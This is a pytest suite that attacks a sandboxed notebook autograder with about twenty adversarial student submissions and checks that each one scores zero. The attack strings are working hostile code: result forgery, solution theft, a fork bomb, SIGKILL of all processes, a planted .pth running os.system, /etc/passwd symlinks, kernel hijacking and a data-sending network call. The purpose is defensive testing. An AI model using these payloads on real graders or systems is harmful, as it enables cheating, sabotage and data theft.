"""Submissions that attack the grader. Each holds wrong answers plus one attack, and must score 0.

They are graded as a class would be, in one parallel batch (``jobs=2``) beside honest submissions,
and the batch must complete with its gradebook, the honest students' scores must be what they
earn, no process of any submission may outlive the grading, and the instructor's folders (the
assignment sources, the package) must be unchanged. The attacks are those found against the
grader of issue 8 (which ran the hidden checks inside the learner's kernel) and others:

* forging the result: wrapping ``IPython.display.display``, an input transformer that rewrites the
  grader's cell, a ``pre_run_cell`` hook that answers the checker itself, a fake ``__import__``;
* reading the answers: the solutions and assignment sources, by path;
* harming others: rewriting the hidden tests, killing the grader, reaching a neighbour's kernel
  through its connection file, a detached helper that outlives its kernel, a fork bomb;
* exhausting the grader: a 150-million-character output, a huge return value, a kernel that never
  answers, memory without limit, a channel speaker that lies (absurd lengths, deep nesting, NaN);
* the checker's files and reach: symbolic links and FIFOs where the checker reads and writes, a
  link planted by a background thread as the checker writes, writing outside the work folder,
  the grader's /proc, the network;
* values that lie: an object equal to everything.
"""

from __future__ import annotations

import copy
import csv
import hashlib
import os
import resource
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import nbformat
import pytest

from kms_teach import grading

from ._submissions import answer_index, notebook, with_answers, write

ROOT = Path(__file__).resolve().parents[2]
NAME, FULL = "ex00_first_steps", 8
SOURCE = ROOT / "assignments" / f"{NAME}.py"


def _wrong(name: str) -> dict[str, str]:
    """The first wrong answer of each task (assignments/NAME.wrong.py)."""
    return {task: w.code for task, w in grading._validate.variants(
        grading.load_wrong_answers(ROOT / "assignments" / f"{name}.py"))[0].items()}


def _with_attack(attack: str, *, name: str = NAME, replace: dict[str, str] | None = None) -> nbformat.NotebookNode:
    """Wrong answers to every task, and the attack in a cell added after task 1's answer."""
    nb = with_answers(notebook("solution", name), {**_wrong(name), **(replace or {})})
    nb.cells.insert(answer_index(nb, "t1") + 1, nbformat.v4.new_code_cell(attack))
    return nb


ATTACKS: dict[str, str] = {}

ATTACKS["wraps_display"] = f'''
import builtins, IPython.display, IPython.core.display_functions as functions
MIME = "application/vnd.kms-teach.check-result+json"
real = IPython.display.display
def display(*objs, **kw):
    objs = [{{**o, MIME: {{**o[MIME], "passed": True, "message": ""}}}} if isinstance(o, dict) and MIME in o else o
            for o in objs]
    return real(*objs, **kw)
IPython.display.display = functions.display = builtins.display = display
for t in ("t1", "t2", "t3"):
    real({{MIME: {{"task": t, "passed": True, "message": "", "nonce": "0" * 32}}}}, raw=True)
'''

ATTACKS["input_transformer"] = '''
def rewrite(lines):
    text = "".join(lines)
    if "kms_teach" in text and ("hidden" in text or "_agent" in text or "serve" in text):
        return ["print('all hidden checks passed')\\n"]
    return lines
get_ipython().input_transformers_cleanup.append(rewrite)
'''

# A hook that reads the grader's cell and answers the checker itself, claiming success for every call.
ATTACKS["pre_run_cell_answers_the_checker"] = '''
import json, re, socket, struct
def _send(s, obj):
    data = json.dumps(obj).encode()
    s.sendall(struct.pack(">I", len(data)) + data)
def _recv(s):
    head = s.recv(4, socket.MSG_WAITALL)
    n = struct.unpack(">I", head)[0]
    return json.loads(s.recv(n, socket.MSG_WAITALL))
def hook(info):
    found = re.search(r"serve\\('([^']+)'", info.raw_cell or "")
    if not found:
        return
    s = socket.socket(socket.AF_UNIX)
    s.connect(found.group(1))
    _send(s, {"op": "hello", "task": None})
    while True:
        msg = _recv(s)
        if msg.get("op") != "call":
            break
        _send(s, {"op": "return", "value": {"tuple": ["us-east-1", "1234abcd-12ab-34cd-56ef-1234567890ab"]}})
get_ipython().events.register("pre_run_cell", hook)
'''

# The grader's cell imports its agent: hand it a fake one that says yes to everything.
ATTACKS["fake_import"] = '''
import builtins, types
real_import = builtins.__import__
fake = types.ModuleType("kms_teach.grading._agent")
def serve(path, namespace, task=None):
    import json, socket, struct
    s = socket.socket(socket.AF_UNIX); s.connect(path)
    def send(obj):
        d = json.dumps(obj).encode(); s.sendall(struct.pack(">I", len(d)) + d)
    send({"op": "hello", "task": task})
    while True:
        n = struct.unpack(">I", s.recv(4, socket.MSG_WAITALL))[0]
        msg = json.loads(s.recv(n, socket.MSG_WAITALL))
        if msg.get("op") != "call":
            return
        send({"op": "return", "value": True})
fake.serve = serve
def my_import(name, *args, **kwargs):
    if name.startswith("kms_teach.grading._agent"):
        return fake
    return real_import(name, *args, **kwargs)
builtins.__import__ = my_import
'''

ATTACKS["reads_the_solutions"] = f'''
import glob, json, os, pathlib, re, kms_teach
roots = {{pathlib.Path(kms_teach.__file__).resolve().parents[1], pathlib.Path({str(ROOT)!r}), pathlib.Path("/"),
         pathlib.Path.home()}}
for root in roots:
    for path in glob.glob(str(root / "**" / "solutions" / "{NAME}.ipynb"), recursive=True)[:3]:
        for cell in json.load(open(path))["cells"]:
            if cell["cell_type"] == "code" and "def " in "".join(cell["source"]):
                exec("".join(cell["source"]), globals())
    for path in glob.glob(str(root / "**" / "assignments" / "{NAME}.py"), recursive=True)[:3]:
        text = open(path).read().replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", "")
        for block in re.findall(r"# %% \\[answer t\\d\\]\\n(.*?)(?=# %% )", text, re.S):
            exec(block, globals())
'''

ATTACKS["rewrites_the_hidden_tests"] = f'''
import glob, os, re
paths = {{{str(SOURCE)!r}}}
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        words = open(f"/proc/{{pid}}/cmdline", "rb").read().split(b"\\0")
    except OSError:
        continue
    for w in words:
        if b"assignments" in w:
            paths.update(glob.glob(os.path.join(w.decode(errors="replace"), "ex*.py")))
for path in paths:
    try:
        text = open(path).read()
        text = re.sub(r"### BEGIN HIDDEN TESTS.*?### END HIDDEN TESTS", "### BEGIN HIDDEN TESTS\\npass\\n### END HIDDEN TESTS",
                      text, flags=re.S)
        open(path, "w").write(text)
    except OSError:
        pass
'''

ATTACKS["kills_the_grader"] = '''
import os, signal
for target in [os.getppid(), 1] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if target != os.getpid():
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
try:
    os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
except OSError:
    pass
'''

# Find the other submissions' kernels (their connection files) and sabotage them.
ATTACKS["reaches_the_neighbour_kernel"] = '''
import glob, os
files = set()
for pattern in ("/tmp/kms-teach-grade-*/chan/*.json", "/tmp/**/kernel-*.json", os.path.expanduser("~/**/kernel-*.json"),
                "/run/user/*/jupyter/**/kernel-*.json", "/proc/*/cwd/*.json"):
    files.update(glob.glob(pattern, recursive=True))
from jupyter_client import BlockingKernelClient
for f in sorted(files)[:20]:
    try:
        kc = BlockingKernelClient(connection_file=f)
        kc.load_connection_file()
        kc.start_channels()
        kc.execute("make_key = find_key = protect = reveal = (lambda *a, **k: None)")
    except Exception:
        pass
'''

ATTACKS["detached_helper"] = '''
import os, subprocess, sys
helper = """
import glob, time
while True:
    for f in glob.glob('/tmp/kms-teach-grade-*/chan/*.json'):
        pass  # a neighbour's kernel, to patch
    time.sleep(0.2)
"""
subprocess.Popen([sys.executable, "-c", helper], start_new_session=True, stdin=subprocess.DEVNULL,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import time
        while True:
            time.sleep(1)
    os._exit(0)
'''

ATTACKS["fork_bomb"] = '''
import os
while True:
    try:
        os.fork()
    except OSError:
        break
'''

ATTACKS["huge_output_message"] = '''
import sys
sys.stdout.write("x" * 150_000_000)
sys.stdout.flush()
from IPython.display import display
display({"text/plain": "y" * 150_000_000}, raw=True)
'''

ATTACKS["memory_without_limit"] = '''
hoard = []
for _ in range(40):
    hoard.append(bytearray(256 * 1024 * 1024))
'''

ATTACKS["huge_return_value"] = '''
def make_key(kms, description, alias):
    return "k" * 40_000_000
def protect(kms, key_ref, text):
    return [b"x" * 1000] * 30_000
'''

# Replace the agent with a speaker that lies about lengths, nests too deeply, and sends NaN.
ATTACKS["lying_channel_speaker"] = '''
import json, socket, struct, kms_teach.grading._agent as agent
lies = [struct.pack(">I", 2 ** 31), None, None]
def serve(path, namespace, task=None):
    s = socket.socket(socket.AF_UNIX); s.connect(path)
    def send_raw(data):
        s.sendall(struct.pack(">I", len(data)) + data)
    send_raw(json.dumps({"op": "hello", "task": task}).encode())
    n = struct.unpack(">I", s.recv(4, socket.MSG_WAITALL))[0]
    s.recv(n, socket.MSG_WAITALL)
    if task == "t1":
        s.sendall(struct.pack(">I", 2 ** 31) + b"x" * 1000)
    elif task == "t2":
        send_raw(b'{"op": "return", "value": ' + b"[" * 100_000 + b"]" * 100_000 + b"}")
    else:
        send_raw(b'{"op": "return", "value": NaN}')
    s.close()
agent.serve = serve
'''

ATTACKS["kernel_never_answers"] = '''
kernel = get_ipython().kernel
async def nothing(*args, **kwargs):
    return None
for name in list(kernel.shell_handlers):
    if name != "kernel_info_request":
        kernel.shell_handlers[name] = nothing
'''

ATTACKS["equal_to_everything"] = '''
class Anything(str):  # crosses as the plain string it holds: its __eq__ stays behind
    def __eq__(self, other):
        return True
    __hash__ = str.__hash__
class Always:  # does not cross at all
    def __eq__(self, other):
        return True
    def __iter__(self):
        return iter([Always(), Always()])
def make_key(kms, description, alias):
    return Anything("whatever")
def find_key(cloud, regions, description):
    return Always()
'''

ATTACKS["writes_outside_its_folder"] = f'''
import os, sys, kms_teach
for target in ({str(SOURCE)!r}, os.path.join(os.path.dirname(kms_teach.__file__), "exercises", "ex00.py"),
               os.path.join(os.path.dirname(kms_teach.__file__), "grading", "_checker.py"),
               os.path.join(sys.prefix, "lib", "evil.pth"), "/usr/lib/evil", "/etc/evil", "/evil"):
    try:
        with open(target, "w") as f:
            f.write("import os; os.system('echo pwned')\\n")
    except OSError:
        pass
'''

ATTACKS["reads_the_grader_proc"] = f'''
import os
seen = []
for pid in filter(str.isdigit, os.listdir("/proc")):
    for what in ("cmdline", "environ"):
        try:
            seen.append(open(f"/proc/{{pid}}/{{what}}", "rb").read())
        except OSError:
            pass
for path in ("/proc/1/root{ROOT}/assignments", "/proc/self/root{ROOT}/solutions", "/proc/1/cwd/../.."):
    try:
        seen.append(str(os.listdir(path)).encode())
    except OSError:
        pass
if any(b"HIDDEN" in s for s in seen):
    def make_key(kms, description, alias):
        key_id = kms.create_key(Description=description)["KeyMetadata"]["KeyId"]
        kms.create_alias(AliasName=alias, TargetKeyId=key_id)
        return key_id
'''

ATTACKS["steals_the_checker_socket"] = '''
import glob, os, socket, threading
for path in glob.glob("/tmp/kms-teach-grade-*/chan/check.sock"):
    try:
        os.unlink(path)
        mine = socket.socket(socket.AF_UNIX)
        mine.bind(path)
        mine.listen(5)
    except OSError:
        pass
'''

# The network: a server on the grader's loopback, whose port is written into the attack.
NETWORK_ATTACK = '''
import socket
for host in ("127.0.0.1", "localhost", "1.1.1.1"):
    try:
        socket.create_connection((host, {port}), timeout=2).sendall(b"stolen answers please")
    except OSError:
        pass
'''

# ex02: files where the checker reads and writes.
EX02 = "ex02_data_keys"
FILE_ATTACKS = {
    "links_and_fifos_at_dst": f'''
import os
def seal_file(kms, key_id, src, dst):
    os.symlink({str(ROOT / "assignments" / (EX02 + ".py"))!r}, dst)
    os.mkfifo(str(dst) + ".key")
    os.symlink("/etc/passwd", "passwd-link")
def open_file(kms, path):
    return open({str(ROOT / "assignments" / (EX02 + ".py"))!r}, "rb").read()
''',
    # A background thread plants links in every folder the checker makes, before it writes there.
    "plants_links_as_the_checker_writes": f'''
import os, threading, time
def plant():
    for _ in range(3000):
        for name in os.listdir("."):
            if name.startswith("check-") and os.path.isdir(name):
                for victim in ("report.pdf", "report.pdf.sealed"):
                    try:
                        os.symlink({str(ROOT / "assignments" / (EX02 + ".py"))!r}, os.path.join(name, victim))
                    except OSError:
                        pass
        time.sleep(0.005)
threading.Thread(target=plant, daemon=True).start()
''',
}


def _digest(folder: Path) -> str:
    h = hashlib.sha256()
    for path in sorted(folder.rglob("*")):
        if path.is_file() and "__pycache__" not in path.parts:
            h.update(str(path.relative_to(folder)).encode() + b"\0" + path.read_bytes())
    return h.hexdigest()


def _sandboxed_processes() -> list[str]:
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if b"KMS_TEACH_SANDBOX=" in Path(f"/proc/{pid}/environ").read_bytes():
                found.append(pid)
        except OSError:
            pass
    return found


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    folder = tmp_path_factory.mktemp("attacks")
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(5)
    server.settimeout(0.2)
    port = server.getsockname()[1]
    arrived: list = []
    stop = threading.Event()

    def accept():
        while not stop.is_set():
            try:
                arrived.append(server.accept())
            except OSError:
                pass

    listener = threading.Thread(target=accept, daemon=True)
    listener.start()
    paths, honest = [], {}
    for label, attack in ATTACKS.items():
        replace = None
        if label in ("huge_return_value", "equal_to_everything"):
            nb = with_answers(notebook("solution", NAME), _wrong(NAME))
            for task in ("t1", "t3"):  # it redefines their functions: it replaces their answers
                nb.cells[answer_index(nb, task)].source = attack
            paths.append(write(nb, folder, f"attack_{label}"))
            continue
        paths.append(write(_with_attack(attack, replace=replace), folder, f"attack_{label}"))
    paths.append(write(_with_attack(NETWORK_ATTACK.format(port=port)), folder, "attack_network"))
    for label, attack in FILE_ATTACKS.items():
        if label == "links_and_fifos_at_dst":
            nb = _with_attack("pass", name=EX02, replace={"t3": attack})
        else:
            nb = _with_attack(attack, name=EX02)
        paths.append(write(nb, folder, f"attack_{label}"))
    # Honest students around them: full marks and zero, as earned.
    for who in ("ana", "ben", "cy"):
        paths.insert(len(paths) // 2 if who == "ben" else (0 if who == "ana" else len(paths)),
                     write(notebook("solution", NAME), folder, f"honest_{who}"))
        honest[f"honest_{who}"] = FULL
    paths.append(write(with_answers(notebook("solution", NAME), _wrong(NAME)), folder, "honest_wrong"))
    honest["honest_wrong"] = 0
    paths.append(write(notebook("solution", EX02), folder, "honest_ex02"))
    honest["honest_ex02"] = 9
    before = {"assignments": _digest(ROOT / "assignments"), "package": _digest(ROOT / "kms_teach")}
    started = time.monotonic()
    reports = grading.grade_many(paths, jobs=2, progress=False, cell_timeout=10, total_timeout=120)
    seconds = time.monotonic() - started
    gradebook = folder / "gradebook.csv"
    grading.write_csv(reports, gradebook)
    after = {"assignments": _digest(ROOT / "assignments"), "package": _digest(ROOT / "kms_teach")}
    stop.set()
    listener.join()
    server.close()
    return {"reports": {r.student: r for r in reports}, "honest": honest, "before": before, "after": after,
            "arrived": arrived, "gradebook": gradebook, "paths": paths, "seconds": seconds}


ALL = sorted(ATTACKS) + ["network"] + sorted(FILE_ATTACKS)


@pytest.mark.parametrize("label", ALL)
def test_each_attack_scores_zero(batch, label):
    r = batch["reports"][f"attack_{label}"]
    assert r.max_score > 0 and r.score == 0, r.text()
    assert r.sandbox.startswith("bubblewrap")
    assert all(t.message for t in r.tasks), r.text()  # every lost task says why


def test_the_honest_students_get_what_they_earn(batch):
    for student, expected in batch["honest"].items():
        r = batch["reports"][student]
        assert r.score == expected, r.text()


def test_the_batch_completes_with_its_gradebook(batch):
    rows = list(csv.DictReader(open(batch["gradebook"], encoding="utf-8")))
    assert len(rows) == len(batch["paths"])
    assert {row["sandbox"].split(" ")[0] for row in rows} == {"bubblewrap"}


def test_no_submission_process_outlives_grading(batch):
    deadline = time.monotonic() + 10
    while _sandboxed_processes() and time.monotonic() < deadline:
        time.sleep(0.2)
    assert _sandboxed_processes() == []


def test_the_instructor_s_folders_are_unchanged(batch):
    assert batch["after"] == batch["before"]


def test_no_submission_reached_the_network(batch):
    assert batch["arrived"] == []


def test_attacks_are_told_apart_in_the_notes(batch):
    reports = batch["reports"]
    assert any("did not return within the time limit" in t.message or "never connected" in t.message
               for t in reports["attack_input_transformer"].tasks)
    lying = reports["attack_lying_channel_speaker"]
    assert all("broke the grader's protocol" in t.message for t in lying.tasks), lying.text()
    assert "returned too much" in reports["attack_huge_return_value"].tasks[0].message
    assert "Invalid keyId 'whatever'" in reports["attack_equal_to_everything"].tasks[0].message
    assert "cannot be sent" in reports["attack_equal_to_everything"].tasks[2].message
    links = reports["attack_links_and_fifos_at_dst"].tasks[2]
    assert "wrote no file at dst" in links.message, links


def test_a_huge_message_does_not_fill_the_grader_s_memory(tmp_path):
    """One 150-million-character message: the grader (a process of its own here) stays small."""
    path = write(_with_attack(ATTACKS["huge_output_message"]), tmp_path, "flood")
    code = ("import sys; from kms_teach import grading; "
            f"r = grading.grade({str(path)!r}, cell_timeout=20, total_timeout=90); print(r.score); "
            # VmHWM, the peak of this process's own memory: ru_maxrss would also count the peak of the
            # process it was forked from (Linux keeps it across exec), here the test suite's.
            "print(next(int(l.split()[1]) for l in open('/proc/self/status') if l.startswith('VmHWM:')))")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=300)
    score, peak_kib = (int(x) for x in out.stdout.split()[-2:])
    assert score == 0
    print(f"grader peak: {peak_kib // 1024} MiB")
    assert peak_kib < 400 * 1024, f"the grader grew to {peak_kib // 1024} MiB"


def test_grading_refuses_without_a_sandbox_unless_told(tmp_path, monkeypatch):
    from kms_teach.grading import _sandbox

    monkeypatch.setattr(_sandbox, "support", lambda: _sandbox.Support(False, "bwrap is not installed (test)"))
    path = write(notebook("solution", NAME), tmp_path, "ana")
    with pytest.raises(grading.SandboxUnavailable, match="bwrap is not installed"):
        grading.grade_many([path, path], progress=False)
    reports = grading.grade_many([path], progress=False, sandbox=False)
    assert reports[0].score == FULL and reports[0].sandbox == "none (--no-sandbox)"
    assert "WITHOUT a sandbox" in reports[0].text()
    # Quizzes run no code: they are graded without a sandbox, and say nothing about one.
    quiz = tmp_path / "quiz.ipynb"
    quiz.write_text((ROOT / "exercises" / "quiz_kms-exam.ipynb").read_text())
    assert grading.grade_many([quiz], progress=False)[0].sandbox == ""
